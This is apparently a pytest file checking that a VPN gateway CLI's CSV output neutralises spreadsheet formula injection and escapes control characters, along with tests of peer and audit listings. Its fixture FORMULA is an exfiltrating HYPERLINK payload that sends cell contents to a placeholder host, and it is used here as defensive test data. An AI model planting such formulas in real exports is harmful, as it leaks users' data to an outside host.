"""Lists as CSV: what a spreadsheet shows is what there is, and none of it is obeyed."""

import csv
import io
from itertools import islice

import pytest

from cli.sheet import show_csv
from tests.cli.conftest import Peergate

HUB = ("gateway", "add", "hub", "--address", "198.51.100.1", "--service", "wireguard")
FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"see")'


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("plain, with a comma", "plain, with a comma"),
        ('"quoted"', '"quoted"'),
        (FORMULA, f"'{FORMULA}"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\uff1d1", "'\uff1d1"),
        (" =1", "' =1"),
        ("\t=1", "\\x09=1"),
        ("x;=1", "x;'=1"),
        ('x; "" @SUM(A1)', 'x;\' "" @SUM(A1)'),
        (["a;", "-1"], "a;' -1"),
        ("one; two", "one; two"),
        ("two\nlines", "two\\x0alines"),
        ("\x1b]0;gone\u202e", "\\x1b]0;gone\\u202e"),
        (["192.0.2.1", "2001:db8::1"], "192.0.2.1 2001:db8::1"),
        ({"name": "=1"}, '{"name": "=1"}'),
        (True, "yes"),
        (None, ""),
        (-7, "-7"),
        ("x" * 5000, "x" * 5000),
    ],
)
def test_cells(capsys: pytest.CaptureFixture[str], value: object, shown: str) -> None:
    show_csv([{"a": value, "b": {"c": 1}}], ("a", "b.c", "b.d", "e"))
    text = capsys.readouterr().out
    head, row = csv.reader(io.StringIO(text))
    assert (head, row) == (["a", "b.c", "b.d", "e"], [shown, "1", "", ""])
    if isinstance(value, int):
        return
    # As where a semicolon parts cells.
    for cell in next(islice(csv.reader(io.StringIO(text), delimiter=";"), 1, None)):
        assert not cell.lstrip().startswith(("=", "+", "-", "@", "\uff1d")), cell


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_peers_and_their_trail(peergate: Peergate) -> None:
    assert peergate(*HUB).code == 0
    who = ("--owner", "@Branches", "--contact", "netops@example.net", "--purpose", FORMULA)
    sources = ("--source", "203.0.113.7", "--source", "2001:db8:7::/48")
    added = peergate("peer", "add", "branch-7", "--gateway", "hub", *sources, *who)
    assert added.code == 0, added.err
    (peer,) = rows(peergate("peer", "list", "--csv").out)
    assert (peer["name"], peer["state"], peer["valid_until"]) == ("branch-7", "pending", "")
    assert peer["sources"] == "203.0.113.7 2001:db8:7::/48"
    assert (peer["owner"], peer["purpose"]) == ("'@Branches", f"'{FORMULA}")
    first, *_ = rows(peergate("audit", "list", "--csv", "--subject", "peer/1").out)
    assert (first["action"], first["actor.name"], first["before"]) == ("peer.request", "admin", "")
    assert '"purpose": "=HYPERLINK(' in first["after"]
    cut = peergate("audit", "list", "--csv", "--limit", "1")
    assert (len(rows(cut.out)), "the first 1: --limit gives more" in cut.err) == (1, True)
    assert rows(peergate("stranger", "list", "--csv").out) == []
    for group in ("peer", "audit", "stranger"):
        both = peergate(group, "list", "--csv", "--json")
        assert (both.code, "--json and --csv: name one" in both.err) == (2, True)
